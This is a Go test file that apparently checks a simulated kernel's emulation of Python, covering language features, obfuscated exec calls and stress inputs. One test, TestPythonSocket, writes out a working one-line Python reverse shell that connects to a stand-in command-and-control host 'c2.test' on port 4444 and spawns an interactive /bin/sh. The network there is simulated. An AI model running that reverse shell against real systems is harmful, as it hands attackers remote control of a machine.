package program_test

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/whalefall/whalefall/internal/kernel"
	"github.com/whalefall/whalefall/internal/kernel/kerneltest"
	"github.com/whalefall/whalefall/internal/program"
	"github.com/whalefall/whalefall/internal/shell"
)

func TestPython(t *testing.T) {
	w := kerneltest.New(t, registry(), kerneltest.Options{})
	for _, r := range []struct{ py, code, want string }{
		{"python3", `print("a", 1+2*3)`, "a 7\n"},
		{"python2", `print "x" + "y"`, "xy\n"},
		{"python3", "import base64; exec(base64.b64decode('cHJpbnQoNDIp').decode())", "42\n"},
		{"python3", "for i in range(3):\n  if i == 1: continue\n  print(i)", "0\n2\n"},
		{"python3", "try:\n  import urllib2\nexcept ImportError:\n  print('no')", "no\n"},
		{"python3", "def f(x):\n  return x*2\nprint(f(4))", "8\n"},
		{"python3", "open('/tmp/a','w').write('hey'); print(open('/tmp/a').read()[::-1])", "yeh\n"},
		{"python3", "import os\nprint(os.path.exists('/etc/passwd'), '%s-%d' % ('a', 3))", "True a-3\n"},
		{"python3", "print([x*2 for x in range(5) if x % 2])", "[2, 6]\n"},
		{"python3", "print([(a,b) for a in 'xy' for b in [1]][0][1], [], [i for i in []])", "1 [] []\n"},
		{"python3", "print(','.join(chr(ord(c)^1) for c in 'abc'))", "`,c,b\n"},
		{"python3", "print({k: v for k, v in [('a', 1)]}['a'])", "1\n"},
		{"python3", "f = lambda x, y=2: [x, y]\nprint(f(1), (lambda: 7)())", "[1, 2] 7\n"},
		{"python3", "x = 5\nl = [x for x in range(3)]\nprint(x, (lambda k: k[::-1])('ab'))", "5 ba\n"},
		{"python3", "print(sum([len(w) for w in 'a bc'.split(' ')]))", "3\n"},
		{"python3", "print(5 & 3 | 8, 1 << 4, -7 % 3, -7 // 2, 6 ^ 3)", "9 16 2 -4 5\n"},
		{"python3", "print(sorted([3,1,2], key=lambda x: -x), max([1,5,2]), list(map(lambda x: x+1, [1,2])))", "[3, 2, 1] 5 [2, 3]\n"},
		{"python3", "import re\nprint(re.findall('[0-9]+', 'a1b22'), re.sub('a(.)', r'<\\1>', 'ab'), re.search('(b+)', 'abbc').group(1))", "['1', '22'] <b> bb\n"},
		{"python3", "import json\nprint(json.dumps({'a': [1, 2]}), json.loads('{\"k\": \"v\"}')['k'])", "{\"a\": [1, 2]} v\n"},
		{"python3", "class A:\n  n = 3\n  def __init__(self, v):\n    self.v = v\n  def get(self, k):\n    return self.v + k + self.n\nclass B(A):\n  def two(self):\n    return self.get(0) * 2\nprint(A(1).get(2), B(4).two(), A.n)", "6 14 3\n"},
		{"python3", "for i, x in enumerate(['p', 'q']):\n  print(i, x)", "0 p\n1 q\n"},
		{"python2", "exec(''.join([chr(c) for c in [112,114,105,110,116,32,49]]))", "1\n"},
	} {
		if got := w.Run("", r.py, "-c", r.code); got.Out != r.want || got.Code != 0 {
			t.Errorf("%s: %+v", r.code, got)
		}
	}
	for _, deep := range []string{strings.Repeat("-", 1<<20) + "1", strings.Repeat("not ", 1<<18) + "1", strings.Repeat("(", 1<<20), strings.Repeat("1**", 1<<18) + "1"} {
		w.Run(deep, "python3")
	}
	w.Run("", append([]string{"find", "/tmp"}, strings.Fields(strings.Repeat("! ", 100000))...)...)
	if got := w.Run("", "python3", "-c", "x"); got.Code != 1 || got.Err != "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nNameError: name 'x' is not defined\n" {
		t.Errorf("%+v", got)
	}
}

func FuzzPython(f *testing.F) {
	f.Add("import os\nfor x in [1]:\n  print(x)")
	fuzz(f, func(s string) []string { return []string{"python3", "-c", s} })
}

var _ kernel.Discard

// A socket of Python's is a connection of the world's: what a reverse shell of one
// line sends and is sent goes over it.
func TestPythonSocket(t *testing.T) {
	sent := discard()
	nw := &kerneltest.Network{Hosts: map[string]netip.Addr{"c2.test": netip.MustParseAddr("203.0.113.9")},
		Serve: func(netip.AddrPort, string) (kernel.Conn, error) {
			return &web{r: strings.NewReader("id -un\nexit\n"), sent: sent}, nil
		}}
	r := kernel.NewRegistry()
	program.Register(r)
	shell.Register(r)
	w := kerneltest.New(t, r, kerneltest.Options{Network: nw})
	got := w.Run("", "python3", "-c", `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("c2.test",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);`)
	if !strings.Contains(sent.String(), "root\n") {
		t.Errorf("%+v, sent %q", got, sent.String())
	}
	for _, x := range []struct{ code, want string }{
		{"import socket\ns = socket.socket()\ns.connect(('c2.test', 80))\ns.send(b'hi')\nprint(s.recv(6))", "id -un"},
		{"import os\nprint(os.uname()[0], os.uname().sysname, os.cpu_count() > 0)", "Linux Linux True\n"},
		{"import math, sys\nx = 4\nprint(f'{x=}', math.floor(2.7), sum(i for i in range(4)), sys.executable)", "x=4 2 6 /usr/bin/python3\n"},
		{"import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nprint('ok')", "ok\n"},
	} {
		if got := w.Run("", "python3", "-c", x.code); !strings.Contains(got.Out, x.want) {
			t.Errorf("%s\n got %+v", x.code, got)
		}
	}
}
